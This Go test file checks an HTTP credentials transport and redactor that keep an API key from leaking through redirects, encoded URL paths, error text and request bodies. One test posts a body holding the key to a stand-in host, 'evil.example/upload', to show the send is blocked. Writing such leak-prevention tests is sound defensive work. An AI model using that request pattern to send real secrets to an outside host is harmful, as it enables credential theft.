package credentials_test

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"testing/iotest"

	"github.com/steadyhttp/steady/credentials"
	"github.com/steadyhttp/steady/internal/wiretest"
)

// encodedKey has a character of most classes an escape set treats apart:
// RFC 3986 sub-delimiters and gen-delimiters, a space, a tilde.
const encodedKey = "Sk+9/a=b:c@d!e*f'g(h)i~j k$l&m;n,o"

// escapeExcept percent-escapes every byte of s but those keep reports, in
// the hex digits of format ("%%%02X" or "%%%02x"), with space as plus when
// asked.
func escapeExcept(s string, keep func(byte) bool, format string, plus bool) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case plus && c == ' ':
			b.WriteByte('+')
		case keep(c):
			b.WriteByte(c)
		default:
			fmt.Fprintf(&b, format, c)
		}
	}
	return b.String()
}

// A server at the key's host redirects to another host with the key, in
// each common encoding, in the path: the request is refused before it
// leaves (nothing reaches the other host), and no text of the error holds
// the key in any form.
func TestRedirectWithTheKeyEncodedInThePath(t *testing.T) {
	for name, form := range wiretest.Forms(encodedKey) {
		t.Run(name, func(t *testing.T) {
			var reached atomic.Int64
			other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { reached.Add(1) }))
			defer other.Close()
			api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Location", other.URL+"/landing/"+form+"/next")
				w.WriteHeader(http.StatusFound)
			}))
			defer api.Close()
			key := credentials.Key{Header: "X-Api-Key", Value: encodedKey, Hosts: []string{api.URL}}
			watch := wiretest.For(t)
			watch.Key(key)
			c := &http.Client{Transport: credentials.NewTransport(nil, key)}
			_, err := c.Get(api.URL + "/start")
			if n := reached.Load(); n != 0 {
				t.Fatalf("the other host received %d requests with the key in their path", n)
			}
			var le *credentials.LeakError
			if !errors.As(err, &le) {
				t.Fatalf("error %v; want a *LeakError", err)
			}
			red := credentials.NewRedactor(encodedKey).Error(err)
			watch.Err("redirect", red)
			for _, text := range []string{red.Error(), fmt.Sprintf("%+v", red), le.Error()} {
				for fname, f := range wiretest.Forms(encodedKey) {
					if strings.Contains(text, f) || strings.Contains(text, encodedKey) {
						t.Errorf("the key, %s, is in %q", fname, text)
					}
				}
			}
		})
	}
}

// The redactor finds a key in every common encoding, in any text, and
// replaces only the key.
func TestRedactorFindsEveryEncoding(t *testing.T) {
	t.Parallel()
	r := credentials.NewRedactor(encodedKey)
	for name, form := range wiretest.Forms(encodedKey) {
		text := "GET https://other.example/landing/" + form + "/next?q=1"
		if !r.Contains(text) {
			t.Errorf("%s: Contains(%q) = false", name, text)
		}
		got := r.String(text)
		if want := "GET https://other.example/landing/" + credentials.Redacted + "/next?q=1"; got != want {
			t.Errorf("%s: String(%q) = %q; want %q", name, text, got, want)
		}
	}
	for _, s := range []string{"100%", "a+b", "%zz%2", "50%25 off", "%41%42"} {
		if got := r.String(s); got != s {
			t.Errorf("String(%q) = %q; want it unchanged", s, got)
		}
	}
}

// FuzzRedactorEscapedForms: a key escaped in any mix of escapes, between
// any texts, is found, and once redacted is found no more; text without it
// is left as it was.
func FuzzRedactorEscapedForms(f *testing.F) {
	f.Add("GET /a/", "/b", uint64(0), false, false)
	f.Add("%", "%2", uint64(1<<63-1), true, true)
	f.Add("x+", "+y", uint64(0xf0f0f0f0), true, false)
	r := credentials.NewRedactor(encodedKey)
	f.Fuzz(func(t *testing.T, before, after string, mask uint64, lower, plus bool) {
		if r.Contains(before) || r.Contains(after) {
			t.Skip()
		}
		format := "%%%02X"
		if lower {
			format = "%%%02x"
		}
		i := 0
		// Form encoding escapes a '+' of its own, whatever else it keeps.
		keep := func(c byte) bool { i++; return mask>>(i%64)&1 == 1 && !(plus && c == '+') }
		form := escapeExcept(encodedKey, keep, format, plus)
		text := before + form + after
		if !r.Contains(text) {
			t.Fatalf("Contains(%q) = false", text)
		}
		if got := r.String(text); r.Contains(got) {
			t.Fatalf("String(%q) = %q, still holding the key", text, got)
		}
		if plain := before + after; !r.Contains(plain) && r.String(plain) != plain {
			t.Fatalf("String(%q) = %q; want it unchanged", plain, r.String(plain))
		}
	})
}

// A body to a foreign origin with the key escaped, read a byte at a time,
// is refused before any byte of the escaped key is handed out.
func TestGuardedBodyFindsAnEscapedKey(t *testing.T) {
	t.Parallel()
	key := credentials.Key{Header: "X-Api-Key", Value: encodedKey, Hosts: []string{"https://api.example.gov"}}
	for name, form := range wiretest.Forms(encodedKey) {
		body := strings.Repeat("x", 3000) + "k=" + form + "&tail"
		req, _ := http.NewRequest(http.MethodPost, "https://evil.example/upload", iotest.OneByteReader(strings.NewReader(body)))
		var got []byte
		var readErr error
		next := roundTripFunc(func(r *http.Request) (*http.Response, error) {
			got, readErr = io.ReadAll(r.Body)
			return &http.Response{StatusCode: http.StatusOK, Body: http.NoBody, Request: r}, nil
		})
		if _, err := credentials.NewTransport(next, key).RoundTrip(req); err != nil {
			t.Fatal(err)
		}
		var le *credentials.LeakError
		if !errors.As(readErr, &le) || strings.Contains(string(got), "k="+form[:min(len(form), 12)]) {
			t.Errorf("%s: read %d bytes, %v; want a *LeakError before the key", name, len(got), readErr)
		}
	}
}
